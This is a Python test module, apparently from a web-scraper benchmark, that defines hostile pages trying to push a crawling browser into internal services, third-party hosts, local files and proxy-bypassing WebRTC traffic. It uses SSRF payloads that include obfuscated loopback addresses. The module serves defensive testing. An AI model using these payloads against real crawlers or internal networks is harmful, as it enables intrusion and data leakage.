"""Hostile pages that reach where they must not: an internal service, secrets, the browser's own."""

from __future__ import annotations

from websegment_scrapy.bench.hostile_web import Answer, Ask, HostilePage, Kind, scripted

__all__ = ["REACHING"]

SHOWN = "then(t => document.querySelector('article').innerHTML += '<p>' + t + '</p>')"
"""Puts what a request brought into the page's text."""

SERVICE_WORKER = (
    "self.addEventListener('install', e => e.waitUntil(fetch('@internal@', {mode: 'no-cors'})));"
)


def _redirect(name: str, *hops: str, render: str = "always") -> Kind:
    """Return a kind that answers with a 302; ``hops`` are where the page and its hops lead."""

    def answer(page: HostilePage, ask: Ask) -> Answer:
        place = int(ask.path.removeprefix("hop") or 0) if ask.path.startswith("hop") else 0
        return Answer("", 302, headers={"Location": page.fill(hops[min(place, len(hops) - 1)])})

    return Kind(name, answer, "never" if render == "never" else "always")


def _post(page: HostilePage, ask: Ask) -> Answer:
    """Submit a form to itself and answer with a 307, which repeats the POST elsewhere."""
    if ask.path == "hop":
        return Answer("", 307, headers={"Location": page.internal()})
    form = "<form method='post' action='@own@hop'><input name='a' value='b'></form>"
    return Answer(page.html(form + "<script>document.forms[0].submit()</script>"))


def _with_script(name: str, path: str, source: str, page_script: str) -> Kind:
    """Return a kind whose page loads a script of its own from ``path``."""

    def answer(page: HostilePage, ask: Ask) -> Answer:
        if ask.path == path:
            return Answer(page.fill(source), content_type="text/javascript")
        return Answer(page.html(f"<script>{page_script}</script>"))

    return Kind(name, answer)


def _stylesheet(page: HostilePage, _ask: Ask) -> Answer:
    style = "@import url(@internal@); h1 {background: url(@internal@)}"
    return Answer(page.html(head=f"<style>{style}</style>"))


def _with_headers(name: str, body: str = "", **headers: str) -> Kind:
    """Return a kind that lets its answer's headers reach out."""

    def answer(page: HostilePage, _ask: Ask) -> Answer:
        filled = {key.replace("_", "-"): page.fill(value) for key, value in headers.items()}
        return Answer(page.html(body), headers=filled)

    return Kind(name, answer)


def _within(page: HostilePage, ask: Ask) -> Answer:
    """Load pictures, frames and data from below itself, where a 302 leads on."""
    if ask.path == "hop":
        return Answer("", 302, headers={"Location": page.internal()})
    loads = "<img src='@own@hop' width='9'><iframe src='@own@hop'></iframe>"
    return Answer(page.html(f"{loads}<script>fetch('@own@hop').catch(() => 0)</script>"))


SSRF = (
    scripted("ssrf-location", "location = '@internal@'"),
    scripted("ssrf-late", "addEventListener('load', () => location.replace('@internal@'))"),
    scripted("ssrf-refresh", head="<meta http-equiv='refresh' content='0;url=@internal@'>"),
    _redirect("ssrf-302", "@internal@"),
    _redirect("ssrf-302-plain", "@internal@", render="never"),
    _redirect("ssrf-chain", "@own@hop1", "@third@?to=@internal@"),
    Kind("ssrf-post", _post),
    Kind("ssrf-within", _within),
    _with_headers(
        "ssrf-report",
        "<img src='@own@a' width='9'>",
        Content_Security_Policy_Report_Only="default-src 'none'; report-uri @internal@",
    ),
    _with_headers("ssrf-link-header", Link="<@internal@>; rel=preload; as=image"),
    _with_headers("ssrf-refresh-header", Refresh="0;url=@internal@"),
    scripted("ssrf-frame", body="<iframe src='@internal@'></iframe>"),
    scripted("ssrf-image", body="<img src='@internal@' width='9'>"),
    scripted("ssrf-fetch", f"fetch('@internal@').then(r => r.text()).{SHOWN}"),
    scripted(
        "ssrf-xhr",
        "const x = new XMLHttpRequest(); x.open('GET', '@internal@', false); x.send();"
        "document.querySelector('article').innerHTML += x.responseText",
    ),
    scripted(
        "ssrf-websocket",
        "const w = new WebSocket('@internal_ws@'); w.onmessage = e => "
        "document.querySelector('article').innerHTML += '<p>' + e.data + '</p>'",
    ),
    scripted("ssrf-eventsource", "new EventSource('@internal@')"),
    scripted(
        "ssrf-prefetch",
        head=(
            "<link rel='dns-prefetch' href='@internal@'><link rel='preconnect' href='@internal@'>"
            "<link rel='prefetch' href='@internal@'><link rel='preload' as='fetch' "
            "href='@internal@' crossorigin>"
        ),
    ),
    scripted("ssrf-popup", "window.open('@internal@')"),
    scripted("ssrf-beacon", "navigator.sendBeacon('@internal@', 'a=b')"),
    _with_script(
        "ssrf-service-worker",
        "worker.js",
        SERVICE_WORKER,
        "navigator.serviceWorker.register('@own@worker.js')",
    ),
    _with_script(
        "ssrf-worker",
        "worker.js",
        "fetch('@internal@').then(r => r.text()).then(t => self.postMessage(t))",
        "const w = new Worker('@own@worker.js'); w.onmessage = e => "
        "document.querySelector('article').innerHTML += '<p>' + e.data + '</p>'",
    ),
    scripted("ssrf-object", body="<object data='@internal@'></object><embed src='@internal@'>"),
    Kind("ssrf-css", _stylesheet),
    scripted("ssrf-decimal", "location = 'http://2130706434:@internal_port@/c/@place@'"),
    scripted("ssrf-hex", "location = 'http://0x7f000002:@internal_port@/c/@place@'"),
    scripted("ssrf-octal", "location = 'http://0177.0.0.2:@internal_port@/c/@place@'"),
    scripted("ssrf-short", "location = 'http://127.2:@internal_port@/c/@place@'"),
    scripted("ssrf-mapped", "location = 'http://[::ffff:127.0.0.2]:@internal_port@/c/@place@'"),
    scripted("ssrf-localhost", "location = 'http://localhost:@v6_port@/c/@place@'"),
    scripted("ssrf-v6", "location = '@internal_v6@'"),
)

CREDENTIALS = (
    scripted("secret-frame", body="<iframe src='@third@'></iframe>"),
    scripted("secret-image", body="<img src='@third@' width='9'>"),
    scripted("secret-script", body="<script src='@third@'></script>"),
    scripted("secret-fetch", "fetch('@third@').catch(() => 0)"),
    scripted("secret-location", "location = '@third@'"),
    scripted("secret-refresh", head="<meta http-equiv='refresh' content='0;url=@third@'>"),
    _redirect("secret-302", "@third@"),
)

WEBRTC = (
    "const c = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.2:@udp@'}]});"
    "c.createDataChannel('a'); c.createOffer().then(o => c.setLocalDescription(o));"
    "const d = new RTCPeerConnection(); d.createDataChannel('b'); (async () => {"
    "const o = await d.createOffer(); await d.setLocalDescription(o);"
    "const e = new RTCPeerConnection(); await e.setRemoteDescription(o);"
    "const a = await e.createAnswer(); await d.setRemoteDescription(a);"
    "await d.addIceCandidate({candidate: 'candidate:1 1 udp 2113937151 127.0.0.2 @udp@ typ host',"
    "sdpMid: '0', sdpMLineIndex: 0}); })()"
)

OWN = (
    scripted("own-blank", "location = 'about:blank'"),
    scripted(
        "own-blob",
        "location = URL.createObjectURL(new Blob([document.documentElement.outerHTML.replace("
        "/<script.*/, '')], {type: 'text/html'}))",
    ),
    scripted("own-data", "location = 'data:text/html,<p>@word@ in a page without a server'"),
    _redirect("own-data-302", "data:text/html,@word@"),
    scripted("own-error", "location = '@dead@/'"),
    scripted("own-file", "location = 'file:///etc/hostname'"),
    _redirect("own-file-302", "file:///etc/hostname"),
    scripted("own-view-source", "location = 'view-source:@own@'"),
)

PACKETS = (
    scripted("webrtc", WEBRTC),
    scripted(
        "webtransport",
        "new WebTransport('https://127.0.0.2:@udp@/', {serverCertificateHashes: [{algorithm: "
        "'sha-256', value: new Uint8Array(32)}]}).ready.catch(() => 0)",
    ),
)
"""Datagrams, which no proxy for connections sees."""

REACHING: tuple[Kind, ...] = (*SSRF, *CREDENTIALS, *PACKETS, *OWN)
